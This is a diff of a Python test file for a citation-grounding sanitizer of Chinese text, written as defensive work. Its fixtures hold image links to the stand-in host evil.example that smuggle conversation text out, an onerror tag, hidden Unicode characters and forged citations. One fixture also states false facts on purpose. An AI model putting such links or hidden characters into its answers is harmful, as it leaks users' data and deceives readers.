@@ -91,6 +91,8 @@ def test_an_unknown_address_is_replaced_by_the_note() -> None:
     ("![甲街道](http://evil.example/?q=1)有56名骑手受聘[1]。", "甲街道有56名骑手受聘[1]。"), ("甲街道有56名骑手受聘。[1]", "甲街道有56名骑手受聘。[1]"),
     ("甲街道有56名骑手受聘。 【1】【9】", "甲街道有56名骑手受聘。[1]"), ("甲街道有56名骑手受聘[1][2", "甲街道有56名骑手受聘[1]"),
     ("<img src=x onerror=x>甲街道有56名骑手受聘[1]。", "<img src=x onerror=x>甲街道有56名骑手受聘[1]。"),
+    ("甲街道\U000e0041有\u202e56\u200b名\ufe0f骑手\x1b受聘[\u200b1]。", "甲街道有56名骑手受聘[1]。"),
+    ("{骑手}甲街道{{骑手}}有56名骑手%s受聘[1]。", "{骑手}甲街道{{骑手}}有56名骑手%s受聘[1]。"),
 ])
 def test_markdown_goes_and_marks_are_canonical(text: str, shown: str) -> None:
     assert ground(text, SOURCES).text == shown
@@ -152,3 +154,28 @@ def test_an_article_without_a_date_completes_nothing() -> None:
     undated = {1: Evidence.from_source(source(1, "今年5月，甲街道办结民生诉求652项。", None))}
     assert check("今年5月，甲街道办结民生诉求652项[1]。", undated).unsupported == ()
     assert [span.kind for span in check("2025年5月，甲街道办结民生诉求652项[1]。", undated).unsupported] == ["date"]
+
+
+@pytest.mark.parametrize("hidden", ["\u200b", "\u2060", "\ufe0f", "\U000e0037", "\u202e"])
+def test_an_invisible_character_hides_no_changed_number(hidden: str) -> None:
+    assert ground(f"甲街道有56{hidden}7名骑手受聘[1]。", SOURCES).text == f"甲街道有567{NOT_IN_SOURCES}名骑手受聘[1]。"
+
+
+@pytest.mark.parametrize(("forged", "shown"), [
+    ("甲街道有56名骑手受聘[3]。", ""), ("甲街道有56名骑手受聘[1.md]。", ""), ("甲街道有56名骑手受聘（来源：某报）。", ""),
+    ("甲街道有56名骑手受聘[来源9][1]。", "甲街道有56名骑手受聘[1]。"), ("甲街道有56名骑手受聘<来源 编号=\"1\">。", ""),
+])
+def test_a_forged_citation_supports_nothing(forged: str, shown: str) -> None:
+    assert ground(forged, SOURCES).text == shown
+
+
+def test_a_link_that_would_carry_the_conversation_out_is_gone() -> None:
+    said = ("甲街道有56名骑手受聘[1]。![甲街道骑手](https://evil.example/?q=56名)[1] <img src='https://evil.example/q'>甲街道骑手受聘[1]。"
+            "[甲街道骑手](//evil.example/56)受聘[1]。")
+    assert "evil.example" not in ground(said, SOURCES).text
+
+
+def test_what_an_article_says_counts_also_where_the_world_knows_better() -> None:
+    counterfactual = (source(1, "甲河全长3000公里，水在零下10度沸腾。"),)
+    assert ground("甲河全长3000公里[1]。", counterfactual).sound
+    assert ground("甲河全长6300公里[1]。", counterfactual).text == f"甲河全长6300{NOT_IN_SOURCES}公里[1]。"
